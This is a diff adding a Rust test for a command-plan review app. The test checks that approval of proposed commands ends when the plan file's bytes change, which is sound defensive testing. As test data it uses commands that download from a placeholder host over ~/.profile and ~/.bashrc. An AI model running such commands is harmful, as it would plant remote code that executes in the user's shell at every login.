@@ -202,3 +202,54 @@ fn choices_return_with_their_plan() {
     bench.wait_until("again", |app| app.plan.shown.as_ref().unwrap().review_id != before);
     assert_eq!(bench.session().authorization.as_ref(), Some(&given));
 }
+
+/// A file that was rewritten may propose more under the same step ids. Its grant ends with the bytes that proposed it,
+/// also while another plan is shown. The other choices stay.
+#[test]
+fn a_grant_of_proposals_ends_with_the_version_that_proposed_them() {
+    let mut bench = Bench::new();
+    let proposing =
+        |command: &str| format!(r#"{{"goal": "g", "steps": [{{"command": "{command}"}}]}}"#);
+    let plan = bench.file("commands.json", &proposing("curl https://example.org/a"));
+    let other = bench.file("other.json", COMMANDS);
+    bench.open(&plan);
+    choose(&mut bench, PlanChoice::AskEveryStep(true));
+    let granted = |app: &App| {
+        let session = app.plan.shown.as_ref().unwrap();
+        let binding = &session.opened.review.as_ref().unwrap().binding;
+        binding.choices.ask_every_step && binding.grants.proposed && session.choices.grants.proposed
+    };
+    let ungranted = |app: &App, version: Digest| {
+        let session = app.plan.shown.as_ref().unwrap();
+        let reviewed = &session.opened.review.as_ref().unwrap().binding.grants;
+        session.opened.digest == version && !reviewed.proposed && !session.choices.grants.proposed
+    };
+    let grant = |bench: &mut Bench| {
+        bench.act(Action::Plan(PlanAction::GrantNeeds(true)));
+        bench.wait_until("granted", granted);
+        bench.authorize();
+    };
+    grant(&mut bench);
+    let shown = proposing("curl -o ~/.profile https://example.org/b");
+    bench.file("commands.json", &shown);
+    bench.act(Action::Do(Command::Reload));
+    bench.wait_until("reviewed", |app| ungranted(app, Digest::of(shown.as_bytes())));
+    assert!(!bench.app.situation().approved);
+    grant(&mut bench);
+    bench.open(&other);
+    bench.open(&plan);
+    assert!(granted(&bench.app), "the file is the same");
+    bench.open(&other);
+    let behind = proposing("curl -o ~/.bashrc https://example.org/c");
+    bench.file("commands.json", &behind);
+    bench.open(&plan);
+    assert!(ungranted(&bench.app, Digest::of(behind.as_bytes())));
+    grant(&mut bench);
+    bench.open(&other);
+    bench.file("commands.json", &shown);
+    bench.act(Action::Do(Command::GoBack));
+    bench.wait_until("back", |app| {
+        app.plan.shown.as_ref().unwrap().path() == Some(&plan)
+            && ungranted(app, Digest::of(shown.as_bytes()))
+    });
+}
